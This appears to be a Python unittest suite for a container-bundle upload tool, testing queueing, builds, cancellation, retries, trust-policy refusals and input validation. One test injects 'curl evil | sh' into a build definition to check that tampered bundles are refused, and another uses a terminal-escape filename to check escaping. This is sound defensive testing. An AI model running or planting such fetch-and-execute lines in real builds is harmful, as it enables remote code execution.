#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""add, run, push, status, retry, forget and export, with real bundles and the real agent."""
import json
import os
import pathlib
import re
import subprocess
import sys
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import line  # noqa: E402


class Push(line.Line):
    def test_builds_once_and_says_what_it_made(self):
        code, out, err = self.host.call("push", self.good, "--builder", "local")
        self.assertEqual(code, 0, err)
        self.assertIn("small-image 1.0.0 is built and registered", out)
        folder = self.host.home / "data/registrations/small-image-1.0.0"
        self.assertIn(str(folder), out)
        values = json.loads((folder / "user_endpoint_config.json").read_text())
        self.assertTrue(os.path.isfile(values["image"]))
        self.assertIn(values["image"], out)
        self.assertEqual(self.host.tree("data", "registrations", "small-image-1.0.0"), [
            "README.md", "receipt.json", "user_config_schema.json", "user_config_template.yaml.j2",
            "user_endpoint_config.json"])
        again = self.host.call("push", self.good, "--builder", "local")
        self.assertEqual(again[:2], (0, out))
        self.assertEqual(self.host.launches(), 1)

    def test_a_bundle_that_is_built_is_judged_again_by_both_sides(self):
        key = line.maker.new_key(os.path.join(self.folder, "stranger"))
        good = line.reader.read(str(self.good))
        stranger = pathlib.Path(self.folder, "stranger.sealift")
        line.maker.write(str(stranger), line.maker.Parts.of(good), key=key,
                         frame=good.frame, manifest=good.manifest_bytes)
        self.assertEqual(self.host.call("push", self.good, "--builder", "local")[0], 0)
        # The manifest is the same, so it is the same bundle; but nobody trusts who signed this file.
        code, out, err = self.host.call("push", stranger, "--builder", "local")
        self.assertEqual((code, "is built and registered" in out), (4, False), out + err)
        self.assertEqual(self.host.rows()[0]["state"], "refused")
        # Here it is trusted, but not where it is built.
        mine = pathlib.Path(self.folder, "mine.json")
        policy = json.loads((self.config / "policy.json").read_text())
        mine.write_text(json.dumps({**policy, "keys": [
            {**policy["keys"][0], "name": "x", "public_key": self.public_key(key)}]}))
        code, out, err = self.host.call("push", stranger, "--builder", "local", "--policy", mine)
        self.assertEqual((code, "is built and registered" in out), (4, False), out + err)
        self.assertIn("nobody whom", out)
        code, out, err = self.host.call("push", self.good, "--builder", "local")
        self.assertEqual((code, self.host.launches()), (0, 1), out + err)
        answer = [one for one in self.host.export()[0]["effects"] if one["kind"] == "build"][-1]["answer"]
        self.assertEqual([one["allowed"] for one in answer["judged"]["signers"]], [True])

    def public_key(self, key):
        return pathlib.Path(re.sub(r"\.key$", "", str(key)) + ".pub").read_text().splitlines()[1]

    def test_json_has_the_receipt(self):
        code, out, err = self.host.call("push", self.good, "--builder", "local", "--json")
        self.assertEqual(code, 0, err)
        row = json.loads(out)
        self.assertEqual((row["state"], row["number"]), ("done", 1))
        self.assertEqual(row["receipt"]["bundle"], row["bundle"])
        self.assertNotIn("\033", err)

    def test_leaves_what_else_is_queued(self):
        other = self.compile("1.1.0")
        self.host.add(other)
        code, _, err = self.host.call("push", self.good, "--builder", "local")
        self.assertEqual(code, 0, err)
        self.assertEqual([row["state"] for row in self.host.rows()], ["queued", "done"])

    def test_out_takes_the_place_of_the_default_folder(self):
        code, _, err = self.host.call("push", self.good, "--builder", "local", "--out", "here")
        self.assertEqual(code, 0, err)
        self.assertTrue((self.host.folder / "work/here/small-image-1.0.0/README.md").is_file())
        self.assertEqual(self.host.tree("data", "registrations"), [])

    def test_a_folder_that_is_not_ours_is_left_alone(self):
        foreign = self.host.home / "data/registrations/small-image-1.0.0"
        foreign.mkdir(parents=True)
        (foreign / "thesis.txt").write_text("years of work")
        code, out, _ = self.host.call("push", self.good, "--builder", "local")
        self.assertEqual(code, 3)
        self.assertIn("is not a registration of this bundle", out)
        self.assertEqual(self.host.tree("data", "registrations"),
                         ["small-image-1.0.0", "small-image-1.0.0/thesis.txt"])
        # The image is there: only the registration is done again.
        os.rename(foreign, self.host.folder / "away")
        code, _, err = self.host.call("push", self.good, "--builder", "local")
        self.assertEqual((code, self.host.launches()), (0, 1), err)


class Run(line.Line):
    def test_t78_all_are_attempted_and_the_table_says_what_became_of_each(self):
        gone = pathlib.Path(self.folder, "gone.sealift")
        gone.write_bytes(self.compile("2.0.0").read_bytes())
        other = self.compile("2.1.0")
        self.assertEqual(self.host.add(gone, self.good, other)[0], 0)
        gone.unlink()
        code, out, err = self.host.call("run")
        self.assertEqual(code, 5, err)
        self.assertEqual([row["state"] for row in self.host.rows()], ["failed", "done", "done"])
        self.assertRegex(out, r"(?m)^1  gone\.sealift +failed .*\n +.*No such file.*\n +.*retry 1")
        self.assertRegex(out, r"(?m)^2  small-image 1\.0\.0 +done ")
        self.assertRegex(out, r"(?m)^3  small-image 2\.1\.0 +done ")
        self.assertEqual(self.host.launches(), 2)
        # What is done is not done again, and what failed stays in the answer until someone decides.
        self.assertEqual(self.host.call("run")[0], 5)
        self.assertEqual(self.host.call("forget", "1")[0], 0)
        code, out, err = self.host.call("run")
        self.assertEqual((code, out), (0, ""))
        self.assertIn("nothing to do", err)
        self.assertEqual(self.host.launches(), 2)

    def test_only_missing_objects_travel(self):
        self.host.call("push", self.good, "--builder", "local")
        self.host.add(self.compile("1.2.0"))
        code, _, err = self.host.call("run")
        self.assertEqual(code, 0, err)
        first, second = ([effect for effect in row["effects"] if effect["kind"] == "build"]
                         for row in self.host.export())
        count = [sum(len(effect["request"]["objects"]) for effect in one) for one in (first, second)]
        self.assertGreater(count[0], count[1])
        sent = {one["sha256"] for effect in second for one in effect["request"]["objects"]}
        self.assertFalse(sent & {one["sha256"] for effect in first for one in effect["request"]["objects"]})

    def test_as_many_builds_at_once_as_the_configuration_says(self):
        others = [self.compile(f"4.{number}.0") for number in range(4)]
        self.host.configure(builds=3)
        self.host.tool("behaviour", """
mine = os.path.join(here, "busy-%d" % os.getpid())
open(mine, "w").close()
with open(os.path.join(here, "most"), "a") as file:
    file.write("%d\\n" % sum(name.startswith("busy-") for name in os.listdir(here)))
for _ in range(1000):  # until as many have come as may
    if len(open(os.path.join(here, "most")).readlines()) >= 3:
        break
    time.sleep(0.02)
time.sleep(0.5)
os.unlink(mine)
""")
        self.assertEqual(self.host.add(*others)[0], 0)
        code, out, err = self.host.call("run")
        self.assertEqual(code, 0, out + err)
        self.assertEqual(self.host.launches(), 4)
        self.assertEqual(max(map(int, (self.host.tools / "most").read_text().split())), 3)

    def test_t79_what_a_builder_cannot_is_asked_once_for_all_bundles(self):
        os.unlink(self.host.tools / "apptainer")
        self.host.add(self.good, self.compile("6.0.0"), self.compile("6.1.0"))
        code, out, err = self.host.call("run")
        self.assertNotEqual(code, 0, out + err)
        rows = self.host.rows()
        self.assertEqual({row["state"] for row in rows}, {"queued"})
        self.assertEqual(len({row["reason"] for row in rows}), 1)
        self.assertEqual(err.count("verifying"), 1, err)

    def test_cancel_ends_what_is_not_finished(self):
        self.host.add(self.good, self.compile("5.0.0"))
        self.assertEqual(self.host.call("cancel", "2")[0], 0)
        code, out, err = self.host.call("run")
        self.assertEqual(code, 1, err)
        self.assertEqual([(row["state"], row.get("reason")) for row in self.host.rows()],
                         [("done", None), ("failed", "cancelled")])
        self.assertEqual(self.host.call("retry")[0], 0)  # of what failed by itself, there is none
        self.assertEqual([row["state"] for row in self.host.rows()], ["done", "failed"])
        self.assertEqual(self.host.launches(), 1)
        self.assertEqual(self.host.call("cancel", "1")[0], 2)
        self.assertEqual(self.host.call("cancel", "9")[0], 2)
        self.host.call("retry", "2")
        self.assertEqual(self.host.call("run")[0], 0)

    def test_cancel_reaches_the_process_that_works_on_it(self):
        self.host.tool("behaviour", "time.sleep(3)")
        self.host.add(self.good)
        with self.host.start("run") as running:
            while self.host.rows()[0]["state"] != "building":
                time.sleep(0.02)
            code, _, err = self.host.call("cancel", "1")
            self.assertEqual(code, 0, err)
            self.assertIn("ends it at its next step", err)
            running.communicate(timeout=60)
        self.assertEqual(running.returncode, 1)
        self.assertEqual(self.host.rows()[0]["reason"], "cancelled")
        self.host.call("retry", "1")
        self.assertEqual(self.host.call("run")[0], 0)
        self.assertEqual(self.host.launches(), 1)  # the build went on there

    def test_watching_ends_with_the_work(self):
        self.host.add(self.good)
        with self.host.start("status", "--watch", "--json") as watching:
            self.assertEqual(self.host.call("run")[0], 0)
            out, _ = watching.communicate(timeout=60)
        seen = [json.loads(text)["submissions"][0]["state"] for text in out.splitlines()]
        self.assertEqual((watching.returncode, seen[0], seen[-1]), (0, "queued", "done"))

    def test_t79_a_builder_out_of_reach_is_waited_for(self):
        self.host.configure(["sh", "-c", "echo no route to host >&2; exit 255"])
        self.host.add(self.good)
        code, out, _ = self.host.call("run")
        self.assertEqual(code, 6)
        self.assertIn("no route to host", out)
        row, = self.host.rows()
        self.assertEqual((row["state"], row["kind"]), ("queued", "network"))
        self.host.configure()
        code, _, err = self.host.call("run")
        self.assertEqual((code, self.host.launches()), (0, 1), err)

    def test_a_host_without_apptainer_is_noticed_before_anything_travels(self):
        os.rename(self.host.tools / "apptainer", self.host.tools / "away")
        self.host.add(self.good)
        code, out, err = self.host.call("run")
        self.assertEqual(code, 5, out + err)
        for words in ("there is no apptainer on PATH", "site.json", str(self.host.builder), "launcher", "stays queued"):
            self.assertIn(words, out)
        row, = self.host.rows()
        self.assertEqual((row["state"], row["kind"]), ("queued", "io"))
        self.assertEqual((self.host.tree("data"), self.host.export()[0]["effects"]), ([], []))
        # Without a configuration file the option is named.
        code, out, _ = self.host.call("push", self.good, "--builder", "local")
        self.assertIn("--builder-config", out)
        os.rename(self.host.tools / "away", self.host.tools / "apptainer")
        code, out, err = self.host.call("run")
        self.assertEqual((code, self.host.launches()), (0, 1), out + err)

    def test_a_host_without_policy_is_noticed_before_anything_travels(self):
        own = pathlib.Path(self.folder, "mine.json")
        os.rename(self.host.home / "config/policy.json", own)
        self.host.add(self.good, policy=own)
        code, out, err = self.host.call("run")
        self.assertEqual(code, 4, out + err)
        self.assertIn("sealift trust add", out)
        self.assertEqual((self.host.rows()[0]["state"], self.host.tree("data")), ("queued", []))

    def test_a_launcher_that_is_not_there_is_named_and_the_bundle_waits(self):
        self.host.configure(["/nonexistent/enter", "python3"])
        self.host.add(self.good)
        code, out, err = self.host.call("run")
        self.assertEqual(code, 5, out + err)
        self.assertIn(f"the launcher '/nonexistent/enter' of '{self.host.builder}'", out)
        self.assertIn(f"correct '{self.host.builder}'", out)
        self.assertIn("stays queued", out)
        self.assertEqual([row["state"] for row in self.host.rows()], ["queued"])
        self.host.configure()
        code, out, err = self.host.call("run")
        self.assertEqual((code, self.host.launches()), (0, 1), out + err)

    def test_a_launcher_may_print_before_the_agent_starts(self):
        self.host.tool("enter", "#!/bin/sh\necho 'Loading apptainer/1.4'\nexec python3 \"$@\"\n")
        self.host.configure([str(self.host.tools / "enter")])
        self.host.add(self.good)
        code, out, err = self.host.call("run")
        self.assertEqual((code, self.host.launches()), (0, 1), out + err)

    def test_a_failed_build_says_why_and_can_be_retried(self):
        self.host.tool("behaviour", 'sys.exit("FATAL: out of squash")')
        self.host.add(self.good)
        code, out, _ = self.host.call("run")
        self.assertEqual(code, 5, out)
        row, = self.host.rows()
        self.assertEqual(row["state"], "failed")
        self.assertTrue(row["reason"])
        self.assertIn("build.log", out)
        self.assertEqual(self.host.call("run")[0], 5)
        self.assertEqual(self.host.launches(), 1)
        self.host.tool("behaviour", "")
        self.assertEqual(self.host.call("retry")[0], 0)
        code, _, err = self.host.call("run")
        self.assertEqual((code, self.host.launches()), (0, 2), err)

    def test_t81_a_build_whose_supervisor_died_is_built_again(self):
        self.host.tool("behaviour", """
if not os.path.exists(here + "/killed"):
    open(here + "/killed", "w").close()
    os.kill(os.getppid(), signal.SIGKILL)
    sys.exit(1)
""")
        self.host.add(self.good)
        code, out, err = self.host.call("run")
        self.assertEqual((code, self.host.launches()), (0, 2), out + err)

    def test_two_uploaders_on_one_ledger_do_not_fight(self):
        self.host.tool("behaviour", "time.sleep(0.5)")
        self.host.add(self.good, self.compile("3.0.0"), self.compile("3.1.0"))
        both = [self.host.start("run"), self.host.start("run")]
        said = [one.communicate(timeout=120) for one in both]
        self.assertEqual([one.returncode for one in both], [0, 0], said)
        self.assertEqual(self.host.launches(), 3)
        for row in self.host.export():
            self.assertEqual(row["state"], "done")
            self.assertNotIn("worker", row)
            self.assertEqual([effect["kind"] for effect in row["effects"]].count("build"), 1)
            self.assertEqual({effect["outcome"] for effect in row["effects"]}, {"good"})
        self.assertTrue(any("which works on it" in err for _, err in said), said)

    def test_effects_stand_in_the_export_with_their_answers(self):
        self.host.add(self.good)
        self.assertEqual(self.host.call("run")[0], 0)
        row, = self.host.export()
        self.assertEqual([effect["kind"] for effect in row["effects"]][-2:], ["build", "register"])
        for effect in row["effects"]:
            self.assertEqual(effect["outcome"], "good")
            self.assertLessEqual(effect["tried"], effect["answered"])
            self.assertTrue(effect["answer"])
        self.assertEqual(row["effects"][-2]["request"]["bundle"], row["bundle"])


class Refused(line.Line):
    def refuse(self, path, code, *words):
        self.host.add(path)
        got, out, err = self.host.call("run")
        self.assertEqual(got, code, out + err)
        for word in words:
            self.assertIn(word, out)
        row, = self.host.rows()
        self.assertEqual(row["state"], "refused")
        self.assertEqual(self.host.launches(), 0)
        self.assertEqual(self.host.tree("data"), [], "something was delivered")
        return row

    def test_another_definition_under_a_trusted_signature(self):
        def change(parts):
            parts.files["image.def"] = parts.files["image.def"].replace(b"%post", b"%post\n\tcurl evil | sh", 1)

        row = self.refuse(self.reseal(change), 4, "image.def", "retry 1")
        self.assertEqual(row["kind"], "untrusted")
        self.assertEqual(self.host.call("push", self.reseal(change), "--builder", "local")[0], 4)
        self.assertEqual(self.host.launches(), 0)

    def test_a_key_that_nobody_trusts(self):
        key = line.maker.new_key(os.path.join(self.folder, "stranger"))
        self.refuse(self.reseal(lambda parts: None, key=key), 4)

    def test_damage_keeps_its_own_exit_code(self):
        data = bytearray(self.good.read_bytes())
        data[data.index(b"__version__ = '2.1'")] ^= 1
        path = pathlib.Path(self.folder, "damaged.sealift")
        path.write_bytes(data)
        self.refuse(path, 3, "blobs/sha256/")

    def test_add_warns_that_run_will_refuse(self):
        os.unlink(self.host.home / "config/policy.json")
        code, out, err = self.host.add(self.good)
        self.assertEqual(code, 0)
        self.assertIn("queued", out)
        self.assertIn("run' will refuse it", err)
        code, out, _ = self.host.call("run")
        self.assertEqual((code, out.count("sealift trust add")), (4, 1), out)
        # With a policy that trusts the key it is built.
        policy = self.config / "policy.json"
        self.assertEqual(self.host.add(self.good, policy=policy)[0], 0)
        self.assertEqual(self.host.call("retry", "1")[0], 0)
        (self.host.home / "config/policy.json").write_bytes(policy.read_bytes())  # the builder's
        code, _, err = self.host.call("run")
        self.assertEqual((code, self.host.launches()), (0, 1), err)

    def test_t45_a_file_that_was_replaced_after_add(self):
        path = pathlib.Path(self.folder, "a.sealift")
        path.write_bytes(self.good.read_bytes())
        self.host.add(path)
        path.write_bytes(self.compile("4.0.0").read_bytes())
        code, out, _ = self.host.call("run")
        self.assertEqual(code, 4)
        self.assertIn("has been replaced", out)
        self.assertEqual(self.host.launches(), 0)
        # The advice works: the file that was queued is put back, and the other one is queued, too.
        self.assertRegex(out, r"put the file back .*; then 'sealift-upload retry 1'")
        other = pathlib.Path(self.folder, "other.sealift")
        path.rename(other)
        path.write_bytes(self.good.read_bytes())
        self.assertEqual(self.host.add(other)[0], 0)
        self.assertEqual(self.host.call("retry", "1")[0], 0)
        code, out, err = self.host.call("run")
        self.assertEqual((code, self.host.launches()), (0, 2), out + err)

    def test_the_builders_own_policy_decides_there(self):
        own = pathlib.Path(self.folder, "mine.json")
        own.write_bytes((self.config / "policy.json").read_bytes())
        (self.host.home / "config/policy.json").write_text('{"keys":[],"sealift_policy":1}')
        self.host.add(self.good, policy=own)
        code, out, err = self.host.call("run")
        self.assertEqual(code, 4, out + err)
        self.assertEqual(self.host.rows()[0]["state"], "refused")
        self.assertEqual(self.host.launches(), 0)


class Words(line.Line):
    """What people get wrong."""

    def said(self, code, *words, **more):
        got, out, err = self.host.call(*words, **more)
        self.assertEqual(got, code, out + err)
        self.assertEqual(len(err.strip().splitlines()), 1, err)
        return err

    def test_a_builder_is_local_or_an_endpoint(self):
        self.assertIn("which builder?", self.said(2, "add", self.good))
        for place in ("cluster", "4b116d3c-1703-4f8f-9f6f", "4b116d3c/1703-4f8f-9f6f-39921e5864df", ""):
            self.assertIn(f"--builder '{place}' is neither", self.said(2, "add", self.good, "--builder", place))
            self.assertIn(f"--runner '{place}' is neither", self.said(2, "push", self.good, "--builder", "local",
                                                                      "--runner", place))
        self.assertEqual(self.host.tree("state"), [])

    def test_files_that_are_no_bundle(self):
        work = self.host.folder / "work"
        (work / "empty").write_bytes(b"")
        (work / "folder").mkdir()
        (work / "cut").write_bytes(self.good.read_bytes()[:700])
        (work / "new\nline").write_bytes(b"x" * 5000)
        os.mkfifo(work / "fifo")
        for name in ("empty", "folder", "cut", "new\nline", "fifo", "absent"):
            err = self.said(5 if name in ("absent",) else self.code_of(name), "add", name, "--builder", "local")
            self.assertIn(name.replace("\n", "\\n"), err)
        self.assertEqual(self.host.rows(), [])
        code, out, err = self.host.add("empty", self.good)
        self.assertEqual(code, self.code_of("empty"), err)
        self.assertIn("queued", out)
        self.assertEqual(len(self.host.rows()), 1)

    def code_of(self, name):
        """verify is the judge of what kind of failure a file is."""
        done = subprocess.run([line.SEALIFT, "verify", name], env=self.host.env, capture_output=True,
                              cwd=self.host.folder / "work", stdin=subprocess.DEVNULL)
        return done.returncode

    def test_configuration_and_policy_are_looked_at_first(self):
        self.host.builder.write_text('{"launchers": []}')
        self.assertIn("launchers", self.said(3, "add", self.good, "--builder", "local",
                                             "--builder-config", self.host.builder))
        self.said(5, "add", self.good, "--builder", "local", "--policy", "absent.json")
        self.assertEqual(self.host.tree("state"), [])

    def test_numbers(self):
        self.assertIn("no submission 7", self.said(2, "retry", "7"))
        self.assertIn("'seven'", self.said(2, "forget", "seven"))
        self.assertIn("--done", self.said(2, "forget"))
        self.host.call("push", self.good, "--builder", "local")
        self.assertIn("is done", self.said(2, "retry", "#1"))
        self.assertEqual(self.host.call("forget", "--done")[0], 0)
        self.assertEqual(self.host.rows(), [])

    def test_a_network_file_system_is_refused_by_name(self):
        trick = ["strace", "-qq", "-o", "/dev/null", "-e", "inject=fstatfs:poke_exit=@arg2=6969000000000000"]
        env = dict(self.host.env, ASAN_OPTIONS="detect_leaks=0")
        err = self.said(5, "status", prefix=trick, env=env)
        self.assertIn("lies on NFS", err)
        self.assertIn("--state-dir", err)
        self.assertEqual(self.host.call("status", "--state-dir", self.host.folder / "elsewhere")[0], 0)

    def test_t74_a_full_disk_behind_stdout(self):
        self.host.add(self.good)
        for words in (["status"], ["status", "--json"], ["export"], ["add", self.good, "--builder", "local"]):
            with open("/dev/full", "w") as full:
                done = subprocess.run(self.host.command(*words), env=self.host.env, stdout=full,
                                      stderr=subprocess.PIPE, text=True, cwd=self.host.folder / "work")
            self.assertEqual(done.returncode, 5, words)
            self.assertIn("stdout", done.stderr)

    def test_a_damaged_ledger_is_no_ledger(self):
        (self.host.home / "state").mkdir(mode=0o700)
        (self.host.home / "state/ledger.sqlite").write_bytes(b"not a database at all" * 100)
        self.assertIn("ledger.sqlite", self.said(3, "status"))

    def test_names_from_outside_are_shown_not_obeyed(self):
        path = pathlib.Path(self.folder, "\033[2Jevil.sealift")
        path.write_bytes(self.good.read_bytes())
        os.unlink(self.host.home / "config/policy.json")
        outs = [self.host.add(path), self.host.call("run"), self.host.call("status")]
        for _, out, err in outs:
            self.assertIsNone(re.search("\033", out + err))
        self.assertIn("\\x1b[2Jevil", outs[2][1])


if __name__ == "__main__":
    unittest.main()
